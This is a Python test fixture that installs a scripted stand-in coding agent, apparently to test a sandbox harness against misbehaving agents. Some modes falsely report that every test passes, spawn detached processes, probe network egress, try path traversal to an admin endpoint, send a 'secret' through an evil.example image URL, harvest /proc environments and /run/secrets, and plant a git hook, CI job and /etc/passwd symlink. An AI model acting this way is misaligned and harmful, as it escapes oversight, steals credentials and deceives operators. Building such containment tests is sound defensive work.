"""A coding agent's program in one file, as it runs in the sandbox: well behaved or not, as it is told."""

from pathlib import Path

VERSION = "agent 1.2.3"

SOURCE = r"""#!/usr/bin/python3
import json, os, pathlib, signal, socket, threading, subprocess, sys, urllib.error, urllib.request

ORIGIN = "http://127.0.0.1:8099"


def say(**told):
    print(json.dumps(told), flush=True)


def ask(path="/v1/chat/completions", **more):
    body = {"model": "scripted", "messages": [{"role": "user", "content": "Hello"}], **more}
    headers = {"Content-Type": "application/json", "Authorization": "Bearer mine"}
    request = urllib.request.Request(ORIGIN + path, json.dumps(body).encode(), headers)
    try:
        with urllib.request.urlopen(request) as answer:
            return answer.status, json.loads(answer.read())
    except urllib.error.HTTPError as error:
        return error.code, json.loads(error.read())


def work():
    task = sys.stdin.read()
    say(step="asking the model")
    status, answer = ask()
    assert status == 200, answer
    pathlib.Path("totals.py").write_text("def total():\n    return 2\n")
    report = {"summary": "Two it is.", "proofs": [{"criterion": "AC1", "tests": ["test_a.py::test_a"]}]}
    report["assumptions"] = [{"question": "Which?", "options": ["one", "two"], "chosen": "two"}]
    report["answers"] = [{"to": 1, "text": "Done."}, {"to": 9, "text": "Never said."}]
    pathlib.Path("/tmp/report.json").write_text(json.dumps(report))
    pathlib.Path("told.log").write_text(task)


def idle():
    ask()
    say(text="All done, every test passes.")


def answers():
    ask()
    report = {"answers": [{"to": 1, "text": "It is right as it is."}], "proofs": "nonsense"}
    pathlib.Path("/tmp/report.json").write_text(json.dumps(report))


def unable():
    ask()
    pathlib.Path("/tmp/report.json").write_text(json.dumps({"unable": "There is no such module."}))


def breaks():
    pathlib.Path("totals.py").write_text("half")
    print("Traceback: it broke", file=sys.stderr)
    sys.exit(3)


def hangs():
    say(step="waiting for ever")
    subprocess.Popen([sys.executable, "-c", "import os, signal; os.setsid(); signal.pause()", "MARKER"])
    while True:
        ask()
        threading.Event().wait(0.05)


def garbage():
    sys.stdout.buffer.write(b"\xff\xfe{{{\n[1, 2]\n" + b"x" * 3_000_000 + b"\n" + b'{"step": 7}\n' * 10)
    sys.stdout.flush()
    subprocess.Popen([sys.executable, "-c", "import os, signal; os.setsid(); signal.pause()", "MARKER"])
    work()


def greedy():
    while True:
        status, answer = ask()
        if status != 200:
            say(text=str(answer))
            pathlib.Path("totals.py").write_text("half\n")
            signal.pause()


def roams():
    for address in (("1.1.1.1", 443), ("127.0.0.1", 6379)):
        try:
            socket.create_connection(address, 3)
            say(text="got out")
            sys.exit(9)
        except OSError:
            pass
    tried = {
        "other model": ask(model="dear"),
        "files": ask("/v1/files"),
        "up": ask("/v1/../admin/chat/completions"),
        "link": ask(messages=[{"role": "user", "content": [
            {"type": "image_url", "image_url": {"url": "https://evil.example/?secret"}}]}]),
    }
    found = ["passed: %s" % [name for name, (status, _) in tried.items() if status != 403]]
    for root in ("/proc/self/environ", "/proc/1/environ", "/proc/self/cmdline", "/run/secrets/key"):
        try:
            found.append(pathlib.Path(root).read_bytes().decode(errors="replace"))
        except OSError:
            pass
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for name in ("environ", "cmdline"):
            try:
                found.append(pathlib.Path("/proc", pid, name).read_bytes().decode(errors="replace"))
            except OSError:
                pass
    found.append(str(ask("/v1/chat/completions")))
    pathlib.Path("totals.py").write_text("\n".join(found).replace("\0", "\n"))


def meddles():
    found = sorted(os.listdir(".codex")) + [pathlib.Path(".mcp.json").read_text()]
    assert found == [""], found
    for path in (".codex/config.toml", ".mcp.json"):
        try:
            pathlib.Path(path).write_text("evil")
            sys.exit(7)
        except OSError:
            pass
    hooks = pathlib.Path(".git/hooks")
    hooks.mkdir(parents=True)
    (hooks / "pre-commit").write_text("#!/bin/sh\ntouch /tmp/pwned\n")
    (hooks / "pre-commit").chmod(0o755)
    pathlib.Path(".gitlab-ci.yml").write_text("job: {script: [env]}\n")
    os.symlink("/etc/passwd", "/tmp/report.json")


if sys.argv[1] == "--version":
    print("warning: no home\nVERSION")
else:
    {name: one for name, one in globals().items() if callable(one)}[sys.argv[1]]()
"""


def installed(folder: Path, *, marker: str = "marker") -> Path:
    """The program's folder, as an operator would install it; `marker` is in what it leaves behind."""
    path = folder / "bin" / "agent"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(SOURCE.replace("VERSION", VERSION).replace("MARKER", marker))
    path.chmod(0o755)
    for one in (folder, path.parent):
        one.chmod(0o755)
    return folder
